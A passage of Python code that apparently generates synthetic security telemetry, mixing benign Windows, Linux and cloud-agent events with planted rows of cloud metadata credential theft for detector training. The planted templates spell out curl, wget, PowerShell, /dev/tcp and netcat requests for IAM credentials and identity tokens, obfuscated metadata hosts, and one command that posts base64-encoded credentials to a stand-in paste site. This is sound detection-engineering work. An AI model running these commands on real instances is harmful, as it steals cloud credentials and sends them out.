                        self.proc(cmd_path, cl, u, "explorer.exe", *ms),
                        rng.choice(explorers),
                        False,
                        weight=0.5,
                    )
                )
        for p in ps_procs:
            out.append(self.spawn(p, rng.choice(explorers), False, weight=0.6))
            conhost = self.proc(
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe "
                r"0xffffffff -ForceV1",
                p.account,
                "powershell.exe",
                *ms,
            )
            out.append(self.spawn(conhost, p, False, weight=0.5))
        for sv in svchosts:
            out.append(self.spawn(sv, services, False, weight=0.5))
        for b in browsers:
            if "--type" in b.command_line:
                renderer = self.proc(
                    b.binary.folder_path,
                    f'"{b.binary.folder_path}" --type=renderer '
                    f"--lang=en-US --renderer-client-id={rng.randrange(5, 400)} "
                    f"--time-ticks-at-unix-epoch=-{rng.getrandbits(50)} --launch-time-ticks="
                    f"{rng.getrandbits(36)} --mojo-platform-channel-handle={rng.randrange(1800, 9000)}"
                    " /prefetch:1",
                    b.account,
                    b.binary.file_name,
                    b.binary.company,
                    b.binary.product,
                )
                out.append(self.spawn(renderer, b, False, weight=1.5))
        for p in py + curl:
            cmd = self.proc(cmd_path, "cmd.exe", p.account, "explorer.exe", *ms)
            out.append(self.spawn(p, cmd, False, weight=0.3))
        wmi = self.proc(
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            r"C:\Windows\system32\wbem\wmiprvse.exe "
            "-secured -Embedding",
            netsvc,
            "svchost.exe",
            *ms,
        )
        out.append(self.spawn(wmi, svchosts[4], False, weight=0.4))
        # DeviceEvents
        for p in ps_procs:
            for cmdlet in (
                "Get-Service",
                "Where-Object",
                "Import-Module",
                "Get-ChildItem",
                "Invoke-RestMethod",
                "Select-Object",
                "Export-Csv",
            ):
                out.append(self.event("PowerShellCommand", p, False, {"Command": cmdlet}, weight=0.25))
        for sv in svchosts[:2]:
            for name in (
                "login.microsoftonline.com",
                "settings-win.data.microsoft.com",
                "fs01.contoso.local",
                "dc01.contoso.local",
            ):
                out.append(
                    self.event(
                        "DnsQueryResponse",
                        sv,
                        False,
                        {
                            "DnsQueryString": name,
                            "DnsQueryResult": [
                                {
                                    "DnsQueryType": 1,
                                    "DnsQueryResultRecord": f"{rng.randrange(10, 60)}.{rng.randrange(256)}."
                                    f"{rng.randrange(256)}.{rng.randrange(1, 255)}",
                                }
                            ],
                        },
                        weight=0.4,
                    )
                )
        task = rng.choice(
            (
                "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
                "\\GoogleUpdateTaskMachineUA",
                "\\Contoso\\NightlyBackup",
            )
        )
        out.append(
            self.event(
                "ScheduledTaskUpdated",
                svchosts[0],
                False,
                {"TaskName": task, "TaskContent": '<?xml version="1.0" encoding="UTF-16"?>'},
                weight=0.3,
            )
        )
        out.append(
            self.event(
                "AntivirusScanCompleted",
                mpeng,
                False,
                {"ScanTypeIndex": "Quick", "ScanId": c.uuid()},
                weight=0.3,
            )
        )
        for b in browsers[:4]:
            out.append(
                self.event(
                    "BrowserLaunchedToOpenUrl",
                    explorers[0],
                    False,
                    None,
                    {"RemoteUrl": "https://contoso.sharepoint.com/sites/it/Shared%20Documents"},
                    weight=0.3,
                )
            )
            out.append(
                self.event(
                    "NamedPipeEvent",
                    b,
                    False,
                    {
                        "PipeName": f"\\Device\\NamedPipe\\mojo.{rng.getrandbits(40)}",
                        "FileOperation": "File created",
                        "NamedPipeEnd": "Server",
                    },
                    weight=0.3,
                )
            )
        out.append(
            self.event(
                "OpenProcessApiCall",
                mpeng,
                False,
                {"DesiredAccess": 4096},
                weight=0.3,
                extra={"FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32\lsass.exe"},
            )
        )
        out.append(
            self.event(
                "ProcessCreatedUsingWmiQuery",
                wmi,
                False,
                {"WmiNamespace": "root\\cimv2"},
                extra={
                    "FileName": "powershell.exe",
                    "FolderPath": ps_path,
                    "ProcessCommandLine": "powershell.exe -NoProfile -Command Get-HotFix",
                },
                weight=0.2,
            )
        )
        return out

    # ---- Linux
    def linux(self, cloud: str) -> list[Template]:
        c, rng = self.cat, self.rng
        root = c.linux_account("root")
        users = [c.linux_account(u) for u in ("ubuntu", "ec2-user", "alice", "deploy", "jenkins", "www-data")]
        out: list[Template] = []
        systemd = self.proc("/usr/lib/systemd/systemd", "/sbin/init splash", root, "")
        sshd_l = self.proc(
            "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", root, "systemd"
        )
        sshd_s = [self.proc("/usr/sbin/sshd", f"sshd: {u.name} [priv]", root, "sshd") for u in users[:4]]
        bashes = [self.proc("/usr/bin/bash", "-bash", u, "sshd") for u in users[:5]]
        cron = self.proc("/usr/sbin/cron", "/usr/sbin/cron -f -P", root, "systemd")
        cron_sh = [
            self.proc("/usr/bin/dash", f"/bin/sh -c {cl}", u, "cron")
            for u, cl in (
                (root, "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
                (users[3], "/opt/app/bin/rotate-logs.sh >/dev/null 2>&1"),
                (root, "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
            )
        ]
        resolved = self.proc(
            "/usr/lib/systemd/systemd-resolved",
            "/lib/systemd/systemd-resolved",
            c.linux_account("systemd-resolve"),
            "systemd",
        )
        chronyd = self.proc(
            "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", c.linux_account("_chrony"), "systemd"
        )
        sshd_in = [
            _dest(
                f"10.{rng.randrange(0, 3)}.{rng.randrange(0, 9)}.{rng.randrange(2, 250)}",
                rng.randrange(40000, 65535),
                "",
                "Tcp",
                22,
            )
            for _ in range(6)
        ]
        sshd_in += [_dest(d[0], rng.randrange(30000, 65535), "", "Tcp", 22) for d in self.random_public(4, 0)]
        out.append(
            self.net(
                sshd_l,
                sshd_in,
                True,
                actions=("InboundConnectionAccepted",) * 3 + ("ConnectionFailed",),
                weight=1.0,
            )
        )
        curl_urls = [
            ("curl -fsSL https://deb.nodesource.com/setup_20.x", ("registry.npmjs.org",)),
            (
                "curl -s https://api.github.com/repos/kubernetes/kubernetes/releases/latest",
                ("api.github.com",),
            ),
            (
                "curl -sSfL -o /tmp/awscliv2.zip https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip",
                ("s3.us-east-1.amazonaws.com",),
            ),
            ("curl -I https://www.google.com", ("www.google.com",)),
            ("curl -s -o /dev/null -w %{http_code} http://10.0.2.20:8080/healthz", None),
            ("curl --retry 3 -fsSL https://pypi.org/simple/requests/", ("pypi.org",)),
        ]
        curls = [
            (self.proc("/usr/bin/curl", cl, u, "bash"), hosts) for cl, hosts in curl_urls for u in users[:2]
        ]
        for p, hosts in curls:
            dests = self.public_dests(hosts, 443, 0.0, 4) if hosts else [_dest("10.0.2.20", 8080)]
            out.append(self.net(p, dests, True, weight=0.4))
        wget = self.proc(
            "/usr/bin/wget",
            "wget -q https://github.com/prometheus/node_exporter/releases/download/"
            "v1.8.0/node_exporter-1.8.0.linux-amd64.tar.gz",
            users[0],
            "bash",
        )
        out.append(
            self.net(
                wget,
                self.public_dests(("objects.githubusercontent.com", "github.com"), 443, 0.0, 4),
                True,
                weight=0.2,
            )
        )
        apt_http = self.proc(
            "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", c.linux_account("_apt"), "apt-get"
        )
        out.append(
            self.net(
                apt_http,
                self.public_dests(("archive.ubuntu.com", "security.ubuntu.com"), 80, 0.0),
                True,
                weight=0.6,
            )
        )
        py_lines = [
            "/usr/bin/python3 /opt/app/worker.py --queue default --concurrency 4",
            "python3 manage.py runserver 0.0.0.0:8000",
            "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only",
            "python3 -m pip install -r requirements.txt",
            "/usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -q",
            "/opt/venv/bin/python /opt/etl/sync_s3.py --bucket contoso-data-lake",
        ]
        pys = [
            self.proc(
                "/usr/bin/python3.10" if not cl.startswith("/opt/venv") else "/opt/venv/bin/python",
                cl,
                rng.choice(users),
                rng.choice(("bash", "systemd", "cron")),
            )
            for cl in py_lines
        ]
        for p in pys:
            dests = self.public_dests(
                ("pypi.org", "files.pythonhosted.org", "archive.ubuntu.com", "s3.us-east-1.amazonaws.com"),
                443,
                0.0,
                6,
            )
            dests += [_dest("10.0.2.16", 5432), _dest("10.0.2.20", 6379)]
            out.append(self.net(p, dests, True, weight=0.8))
        gits = [
            self.proc(
                "/usr/lib/git-core/git-remote-https",
                f"/usr/lib/git-core/git-remote-https origin https://github.com/contoso/{r}.git",
                u,
                "git",
            )
            for r in ("web-portal", "infra")
            for u in users[3:5]
        ]
        for g in gits:
            out.append(self.net(g, self.public_dests(("github.com",), 443, 0.0, 4), True, weight=0.3))
        java = self.proc(
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms1g -Xmx4g -XX:+UseG1GC -jar "
            "/opt/kafka-connect/connect.jar /etc/kafka/connect-distributed.properties",
            c.linux_account("svc-app"),
            "systemd",
        )
        out.append(self.net(java, [_dest(f"10.0.3.{i}", 9092) for i in range(10, 16)], True, weight=1.0))
        node = self.proc(
            "/usr/bin/node", "node /srv/portal/server.js", c.linux_account("www-data"), "systemd"
        )
        out.append(
            self.net(
                node,
                [
                    _dest("10.0.2.20", 6379),
                    _dest("10.0.2.16", 5432),
                    *self.public_dests(("registry.npmjs.org",), 443, 0.0, 2),
                ],
                True,
                weight=0.8,
            )
        )
        dockerd = self.proc(
            "/usr/bin/dockerd",
            "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
            root,
            "systemd",
        )
        out.append(
            self.net(
                dockerd,
                self.public_dests(("registry-1.docker.io", "hub.docker.com"), 443, 0.0, 4),
                True,
                weight=0.4,
            )
        )
        out.append(self.net(resolved, [_dest("10.0.0.2", 53, "", "Udp")], True, weight=0.6))
        mdatp = self.proc(
            "/opt/microsoft/mdatp/sbin/wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon", root, "systemd"
        )
        out.append(
            self.net(
                mdatp, self.public_dests(("winatp-gw-eus.microsoft.com",), 443, 0.0, 4), True, weight=0.5
            )
        )
        # Cloud agents and metadata neighbours
        if cloud == "aws":
            ssm = self.proc(
                "/usr/bin/amazon-ssm-agent",
                "/usr/bin/amazon-ssm-agent",
                root,
                "systemd",
                "Amazon.com, Inc.",
                "amazon-ssm-agent",
            )
            worker = self.proc(
                "/usr/bin/ssm-agent-worker", "/usr/bin/ssm-agent-worker", root, "amazon-ssm-agent"
            )
            out.append(
                self.net(ssm, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=1.2)
            )
            out.append(
                self.net(
                    worker, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=0.6
                )
            )
            out.append(self.net(ssm, self.public_dests(("ssm.us-east-1.amazonaws.com",), 443, 0.0, 2), True))
            out.append(
                self.net(
                    resolved,
                    [_dest("169.254.169.253", 53, "", "Udp")],
                    True,
                    ("ConnectionSuccess",),
                    tag="route53_resolver",
                    weight=0.8,
                )
            )
            out.append(
                self.net(
                    chronyd,
                    [_dest("169.254.169.123", 123, "", "Udp"), _dest("fd00:ec2::123", 123, "", "Udp")],
                    True,
                    ("ConnectionSuccess",),
                    tag="time_sync",
                    weight=0.4,
                )
            )
            eic_parent = self.proc(
                "/usr/share/ec2-instance-connect/eic_curl_authorized_keys",
                "/bin/sh /usr/share/ec2-instance-connect/eic_curl_authorized_keys ec2-user "
                "SHA256:" + c.hexstr(16),
                c.linux_account("ec2-instance-connect"),
                "eic_run_authorized_keys",
            )
            eic_curl = self.proc(
                "/usr/bin/curl",
                "/usr/bin/curl -s -f -m 1 -H X-aws-ec2-metadata-token: "
                f"{c.hexstr(28)}== http://169.254.169.254/latest/meta-data/managed-ssh-keys/"
                "active-keys/ec2-user/",
                c.linux_account("ec2-instance-connect"),
                "eic_curl_authorized_keys",
            )
            out.append(self.spawn(eic_curl, eic_parent, True, tag="ec2_instance_connect", weight=0.15))
            out.append(
                self.net(
                    eic_curl,
                    [_dest(IMDS, 80)],
                    True,
                    ("ConnectionSuccess",),
                    tag="ec2_instance_connect",
                    weight=0.1,
                )
            )
        elif cloud == "gcp":
            gga = self.proc(
                "/usr/bin/google_guest_agent",
                "/usr/bin/google_guest_agent",
                root,
                "systemd",
                "Google",
                "google-guest-agent",
            )
            out.append(
                self.net(gga, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=1.5)
            )
            out.append(
                self.net(
                    resolved,
                    [_dest(IMDS, 53, "", "Udp")],
                    True,
                    ("ConnectionSuccess",),
                    tag="gcp_dns",
                    weight=1.0,
                )
            )
            out.append(
                self.net(
                    chronyd,
                    [_dest(IMDS, 123, "", "Udp")],
                    True,
                    ("ConnectionSuccess",),
                    tag="gcp_ntp",
                    weight=0.3,
                )
            )
            osc = self.proc(
                "/usr/bin/google_osconfig_agent", "/usr/bin/google_osconfig_agent", root, "systemd"
            )
            out.append(
                self.net(osc, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=0.5)
            )
        elif cloud == "azure":
            waagent = self.proc(
                "/usr/bin/python3.10", "python3 -u /usr/sbin/waagent -run-exthandlers", root, "python3"
            )
            out.append(
                self.net(
                    waagent,
                    [_dest("168.63.129.16", 80), _dest("168.63.129.16", 32526)],
                    True,
                    ("ConnectionSuccess",),
                    tag="wireserver",
                    weight=1.0,
                )
            )
            out.append(
                self.net(
                    waagent, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=0.8
                )
            )
            out.append(
                self.net(
                    resolved,
                    [_dest("168.63.129.16", 53, "", "Udp")],
                    True,
                    ("ConnectionSuccess",),
                    tag="wireserver_dns",
                    weight=0.6,
                )
            )
            mdsd = self.proc(
                "/opt/microsoft/azuremonitoragent/bin/mdsd",
                "/opt/microsoft/azuremonitoragent/bin/mdsd -A -c /etc/opt/microsoft/azuremonitoragent/"
                "mdsd.xml -r /run/azuremonitoragent/default -e /var/opt/microsoft/azuremonitoragent/"
                "log/mdsd.err",
                c.linux_account("syslog"),
                "systemd",
            )
            out.append(
                self.net(mdsd, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="agent_imds", weight=0.5)
            )
        if cloud in ("aws", "gcp", "azure"):
            ci = self.proc(
                "/usr/bin/python3.10", "/usr/bin/python3 /usr/bin/cloud-init init", root, "systemd"
            )
            out.append(
                self.net(ci, [_dest(IMDS, 80)], True, ("ConnectionSuccess",), tag="cloud_init", weight=0.05)
            )
            harden = self.proc(
                "/usr/sbin/xtables-nft-multi",
                "iptables -A OUTPUT -d 169.254.169.254 -m owner ! --uid-owner root -j DROP",
                root,
                "bash",
            )
            out.append(
                self.spawn(
                    harden,
                    self.proc(
                        "/usr/bin/bash", "/bin/bash /opt/hardening/imds-lockdown.sh", root, "cloud-init"
                    ),
                    True,
                    tag="mentions_imds",
                    weight=0.05,
                )
            )
            grep = self.proc("/usr/bin/grep", "grep -rn 169.254.169.254 /etc/", users[0], "bash")
            out.append(self.spawn(grep, bashes[0], True, tag="mentions_imds", weight=0.03))
        # Process creations
        for u_bash in bashes:
            out.append(self.spawn(u_bash, rng.choice(sshd_s), True, weight=0.4))
        for p, _ in curls:
            out.append(self.spawn(p, rng.choice(bashes[:2]), True, weight=0.3))
        out.append(self.spawn(wget, bashes[0], True, weight=0.2))
        for p in pys:
            out.append(self.spawn(p, rng.choice(bashes + cron_sh), True, weight=0.4))
        apt = [
            self.proc("/usr/bin/apt-get", cl, root, "sudo")
            for cl in ("apt-get update", "apt-get install -y nginx", "apt-get -y upgrade")
        ]
        sudo = self.proc("/usr/bin/sudo", "sudo -i", root, "bash")
        for a in apt:
            out.append(self.spawn(a, sudo, True, weight=0.3))
        out.append(self.spawn(apt_http, apt[0], True, weight=0.3))
        for sh in cron_sh:
            out.append(self.spawn(sh, cron, True, weight=0.6))
        for cl in ("git fetch --all --prune", "git pull --rebase origin main", "git status --porcelain"):
            out.append(
                self.spawn(self.proc("/usr/bin/git", cl, users[3], "bash"), bashes[3], True, weight=0.3)
            )
        out.append(self.spawn(java, systemd, True, weight=0.2))
        out.append(self.spawn(node, systemd, True, weight=0.2))
        multi = [
            "bash -c set -e\ncd /opt/app\ngit pull --ff-only\nsystemctl restart app",
            "python3 -c import json, sys\nfor line in sys.stdin:\n    print(json.loads(line)['id'])",
            "/bin/sh -c tar czf /backup/etc-$(date +%F).tgz /etc && \\\n  find /backup -mtime +14 -delete",
        ]
        for cl in multi:
            path = "/usr/bin/python3.10" if cl.startswith("python3") else "/usr/bin/bash"
            out.append(self.spawn(self.proc(path, cl, users[3], "bash"), bashes[3], True, weight=0.08))
        for name in ("ls", "cat", "ps", "systemctl", "journalctl", "tail", "awk", "sed", "id", "uname"):
            args = {
                "ls": "ls -la /var/log",
                "cat": "cat /etc/os-release",
                "ps": "ps aux",
                "systemctl": "systemctl status nginx",
                "journalctl": "journalctl -u app --since -1h",
                "tail": "tail -n 200 /var/log/syslog",
                "awk": "awk -F: '{print $1}' /etc/passwd",
                "sed": "sed -n 1,20p /etc/nginx/nginx.conf",
                "id": "id -u",
                "uname": "uname -a",
            }[name]
            out.append(
                self.spawn(
                    self.proc(f"/usr/bin/{name}", args, rng.choice(users), "bash"),
                    rng.choice(bashes),
                    True,
                    weight=0.35,
                )
            )
        # DeviceEvents (Linux sensors report fewer action types)
        for sh in cron_sh[:2]:
            out.append(
                self.event(
                    "ScheduledTaskCreated",
                    cron,
                    True,
                    {"TaskName": "cron", "Command": sh.command_line},
                    weight=0.2,
                )
            )
        for p in [*pys[:3], node, java]:
            for name in ("pypi.org", "archive.ubuntu.com", "kafka-1.contoso.internal", "registry.npmjs.org"):
                out.append(
                    self.event(
                        "DnsQueryResponse",
                        p,
                        True,
                        {
                            "DnsQueryString": name,
                            "DnsQueryResult": [
                                {"DnsQueryType": 1, "DnsQueryResultRecord": f"10.0.3.{rng.randrange(2, 250)}"}
                            ],
                        },
                        weight=0.2,
                    )
                )
        if cloud == "gcp":
            gga = self.proc("/usr/bin/google_guest_agent", "/usr/bin/google_guest_agent", root, "systemd")
            out.append(
                self.event(
                    "DnsQueryResponse",
                    gga,
                    True,
                    {
                        "DnsQueryString": "metadata.google.internal",
                        "DnsQueryResult": [{"DnsQueryType": 1, "DnsQueryResultRecord": IMDS}],
                    },
                    tag="agent_dns",
                    weight=0.3,
                )
            )
        out.append(
            self.event(
                "AntivirusDetection",
                mdatp,
                True,
                {"ThreatName": "Virus:DOS/EICAR_Test_File", "WasRemediated": True, "Action": "quarantine"},
                {"FileName": "eicar.com", "FolderPath": "/tmp/eicar.com"},
                weight=0.1,
            )
        )
        out.append(
            self.event("UserAccountCreated", sudo, True, None, {"AccountName": "svc-monitor"}, weight=0.05)
        )
        out.append(self.event("AntivirusScanCompleted", mdatp, True, {"ScanTypeIndex": "Quick"}, weight=0.2))
        return out


# --------------------------------------------------------------------------------------------------------
# Planted malicious rows


@dataclass
class Planted:
    table: str
    row: dict[str, Any]
    template: str
    provider: str
    host: str
    extra: dict[str, Any] = field(default_factory=dict)


AWS_PATHS = (
    ("/latest/meta-data/iam/security-credentials/", "high"),
    ("/latest/meta-data/iam/security-credentials/{role}", "high"),
    ("/latest/user-data", "high"),
    ("/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance", "high"),
    ("/latest/dynamic/instance-identity/document", "medium"),
    ("/latest/meta-data/iam/info", "medium"),
)
AZURE_PATHS = (
    ("/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "high"),
    ("/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https%3A%2F%2Fvault.azure.net", "high"),
    ("/metadata/identity/oauth2/token?resource=https://storage.azure.com/&api-version=2021-02-01", "high"),
    ("/metadata/instance?api-version=2021-02-01", "low"),
)
GCP_PATHS = (
    ("/computeMetadata/v1/instance/service-accounts/default/token", "high"),
    (
        "/computeMetadata/v1/instance/service-accounts/default/identity?audience=https://contoso.example",
        "high",
    ),
    ("/computeMetadata/v1/instance/attributes/kube-env", "high"),
    ("/computeMetadata/v1/?recursive=true&alt=text", "medium"),
    ("/computeMetadata/v1/project/attributes/ssh-keys", "medium"),
)
ROLES = (
    "ec2-app-role",
    "prod-web-instance-role",
    "eks-node-role",
    "ssm-managed",
    "data-pipeline-role",
    "AmazonSSMRoleForInstancesQuickSetup",
)


class MaliciousFactory:
    """Draws a planted metadata-credential access row from varied templates."""

    def __init__(self, rng: random.Random, cat: Catalog, encoded_share: float = 0.4) -> None:
        self.rng = rng
        self.cat = cat
        self.encoded_share = encoded_share
        self.kinds: list[tuple[Callable[[Device], Planted], str, float]] = [
            (self.linux_cmd, "linux", 0.38),
            (self.windows_cmd, "windows", 0.22),
            (self.network_conn, "linux", 0.16),
            (self.windows_network, "windows", 0.05),
            (self.http_inspected, "any", 0.05),
            (self.powershell_event, "windows", 0.07),
            (self.dns_event, "linux", 0.04),
            (self.ecs_alibaba, "linux", 0.03),
        ]
        self._cum: list[float] = []
        total = 0.0
        for _, _, w in self.kinds:
            total += w
            self._cum.append(total)

    def pick(self) -> tuple[Callable[[Device], Planted], str]:
        r = self.rng.random() * self._cum[-1]
        for (fn, os_name, _), edge in zip(self.kinds, self._cum, strict=True):
            if r < edge:
                return fn, os_name
        return self.kinds[-1][0], self.kinds[-1][1]

    # ---- host/path choice
    def target(self, provider: str | None = None) -> tuple[str, str, str, str]:
        """Return (provider, host, path, severity) with the host possibly encoded."""
        rng = self.rng
        provider = provider or rng.choice(("aws", "aws", "azure", "gcp"))
        paths = {"aws": AWS_PATHS, "azure": AZURE_PATHS, "gcp": GCP_PATHS}[provider]
        path, sev = rng.choice(paths)
        path = path.replace("{role}", rng.choice(ROLES))
        host = IMDS
        if rng.random() < self.encoded_share:
            if provider == "gcp" and rng.random() < 0.5:
                host = rng.choice(GCP_NAMES)
            elif provider == "aws" and rng.random() < 0.1:
                host = "[fd00:ec2::254]"
            else:
                host = rng.choice(ENCODED_IMDS_HOSTS)
        return provider, host, path, sev

    @staticmethod
    def header(provider: str) -> tuple[str, str]:
        """(curl -H argument, python headers dict literal) for a provider."""
        if provider == "azure":
            return '-H "Metadata: true" ', "{'Metadata': 'true'}"
        if provider == "gcp":
            return '-H "Metadata-Flavor: Google" ', "{'Metadata-Flavor': 'Google'}"
        return "", "{}"

    def linux_parent(self) -> Proc:
        c, rng = self.cat, self.rng
        choice = rng.randrange(6)
        if choice == 0:
            return Proc(
                c.binary("/usr/bin/bash"),
                "-bash",
                c.linux_account(rng.choice(("ubuntu", "ec2-user", "alice"))),
                "sshd",
            )
        if choice == 1:
            guid = c.uuid()
            return Proc(
                c.binary("/usr/bin/dash"),
                f"sh /var/lib/amazon/ssm/i-0{c.hexstr(8)[:16]}/document/"
                f"orchestration/{guid}/awsrunShellScript/0.awsrunShellScript/_script.sh",
                c.linux_account("root"),
                "ssm-document-worker",
            )
        if choice == 2:
            return Proc(
                c.binary("/usr/bin/python3.10"),
                "/usr/bin/python3 /srv/app/venv/bin/gunicorn app:app --bind 0.0.0.0:8000",
                c.linux_account("www-data"),
                "gunicorn",
            )
        if choice == 3:
            return Proc(
                c.binary("/usr/lib/jvm/java-11-openjdk-amd64/bin/java"),
                "/usr/lib/jvm/java-11-openjdk-amd64/bin/java -Djava.util.logging.config.file=/opt/tomcat/"
                "conf/logging.properties -classpath /opt/tomcat/bin/bootstrap.jar "
                "org.apache.catalina.startup.Bootstrap start",
                c.linux_account("tomcat"),
                "systemd",
            )
        if choice == 4:
            return Proc(c.binary("/usr/bin/bash"), "bash -i", c.linux_account("www-data"), "nc")
        return Proc(
            c.binary("/usr/bin/node"), "node /srv/portal/server.js", c.linux_account("www-data"), "systemd"
        )

    # ---- templates
    def linux_cmd(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        provider, host, path, sev = self.target()
        hdr, pyhdr = self.header(provider)
        url = f"http://{host}{path}"
        style = rng.randrange(12)
        binary = "/usr/bin/curl"
        if style == 0:
            cl, name = f"curl -s {hdr}{url}", "curl"
        elif style == 1:
            cl, name = f"curl -sf --max-time 2 {hdr}'{url}'", "curl_quoted"
        elif style == 2:
            cl, name = f"curl {hdr}{host}{path}", "curl_no_scheme"
        elif style == 3:
            cl, name = f"curl -s {hdr}http://updates.contoso.example@{host}{path}", "curl_userinfo"
        elif style == 4:
            wh = hdr.replace("-H ", "--header=").replace('"', "'")
            cl, name, binary = f"wget -qO- {wh}{url}", "wget", "/usr/bin/wget"
        elif style == 5:
            cl, name, binary = f"wget -q -O /tmp/.c {url}", "wget_to_file", "/usr/bin/wget"
        elif style == 6:
            cl = (
                f"python3 -c \"import urllib.request as u;print(u.urlopen(u.Request('{url}',headers={pyhdr}))"
                '.read().decode())"'
            )
            name, binary = "python_urllib", "/usr/bin/python3.10"
        elif style == 7:
            cl = f"python3 -c \"import requests;print(requests.get('{url}',headers={pyhdr},timeout=2).text)\""
            name, binary = "python_requests", "/usr/bin/python3.10"
        elif style == 8:
            p = path if provider == "aws" else AWS_PATHS[0][0]
            provider = "aws"
            cl = (
                'bash -c TOKEN=$(curl -s -X PUT "http://' + host + '/latest/api/token" -H '
                '"X-aws-ec2-metadata-token-ttl-seconds: 21600") && '
                f'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://{host}{p}'
            )
            name, binary, path = "imdsv2_chain", "/usr/bin/bash", p
        elif style == 9:
            p = path if provider == "aws" else AWS_PATHS[0][0]
            provider, host, path = "aws", IMDS, p
            cl = (
                "bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; printf \"GET "
                + p
                + " HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n\" >&3; cat <&3'"
            )
            name, binary = "bash_dev_tcp", "/usr/bin/bash"
        elif style == 10:
            p = path if provider == "aws" else AWS_PATHS[2][0]
            provider, host, path = "aws", IMDS, p
            cl = (
                f"sh -c printf 'GET {p} HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' "
                "| nc 169.254.169.254 80"
            )
            name, binary = "netcat", "/usr/bin/dash"
        else:
            cl = (
                f"bash -c endpoint={host}\nrole=$(curl -s {hdr}http://$endpoint{path})\n"
                f"curl -s {hdr}http://$endpoint{path}$role | base64 -w0 | curl -s -d @- https://paste.example.net/u"
            )
            name, binary = "multiline_variable", "/usr/bin/bash"
        parent = self.linux_parent()
        child = Proc(c.binary(binary), cl, parent.account, parent.binary.file_name)
        row = _blank(PROCESS_TABLE)
        row["ActionType"] = "ProcessCreated"
        _set_child(row, child)
        _set_initiating(row, parent)
        return Planted(PROCESS_TABLE, row, f"process:{name}", provider, host, {"severity": sev, "path": path})

    def windows_cmd(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        provider, host, path, sev = self.target(rng.choice(("azure", "azure", "aws", "gcp")))
        url = f"http://{host}{path}"
        hdr_ps = {
            "azure": " -Headers @{Metadata='true'}",
            "gcp": " -Headers @{'Metadata-Flavor'='Google'}",
        }.get(provider, "")
        ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
        binary = ps
        style = rng.randrange(8)
        if style == 0:
            cl, name = (
                f"powershell.exe -NoP -C \"Invoke-RestMethod{hdr_ps} -Uri '{url}'\"",
                "ps_invoke_restmethod",
            )
        elif style == 1:
            cl, name = f'powershell.exe -nop -w hidden -c "irm{hdr_ps} {url} | ConvertTo-Json"', "ps_irm"
        elif style == 2:
            cl, name = f"powershell.exe -c \"(iwr -UseBasicParsing{hdr_ps} '{url}').Content\"", "ps_iwr"
        elif style == 3:
            hdr_wc = {
                "azure": "$w.Headers.Add('Metadata','true');",
                "gcp": "$w.Headers.Add('Metadata-Flavor','Google');",
            }.get(provider, "")
            cl = f"powershell.exe -c \"$w=New-Object Net.WebClient;{hdr_wc}$w.DownloadString('{url}')\""
            name = "ps_net_webclient"
        elif style == 4:
            cl = (
                f"powershell.exe -NoProfile -Command \"$u = '{url}'\n$r = Invoke-WebRequest -Uri $u"
                f'{hdr_ps} -UseBasicParsing\n$r.Content | Out-File $env:TEMP\\t.txt"'
            )
            name = "ps_multiline"
        elif style == 5:
            script = f"Invoke-RestMethod{hdr_ps} -Uri '{url}'"
            enc = base64.b64encode(script.encode("utf-16-le")).decode()
            cl, name = f"powershell.exe -NoP -NonI -EncodedCommand {enc}", "ps_encodedcommand"
        elif style == 6:
            hdr = {"azure": '-H "Metadata: true" ', "gcp": '-H "Metadata-Flavor: Google" '}.get(provider, "")
            cl, name, binary = f"curl.exe -s {hdr}{url}", "curl_exe", r"C:\Windows\System32\curl.exe"
        else:
            cl = f'pwsh -c "Invoke-RestMethod{hdr_ps} -Uri {url}"'
            name, binary = "pwsh_invoke_restmethod", r"C:\Program Files\PowerShell\7\pwsh.exe"
        user = c.windows_account(rng.choice(("user", "system", "network service")))
        parent_choice = rng.randrange(4)
        if parent_choice == 0:
            parent = Proc(
                c.binary(r"C:\Windows\System32\cmd.exe"),
                "cmd.exe /c whoami & " + cl.split(" ", 1)[0],
                user,
                "w3wp.exe",
            )
        elif parent_choice == 1:
            parent = Proc(
                c.binary(r"C:\Windows\System32\inetsrv\w3wp.exe"),
                'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"'
                " -a \\\\.\\pipe\\iisipm" + c.uuid() + ' -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool'
                '\\DefaultAppPool.config" -w "" -m 0',
                c.windows_account("network service"),
                "svchost.exe",
            )
        elif parent_choice == 2:
            parent = Proc(
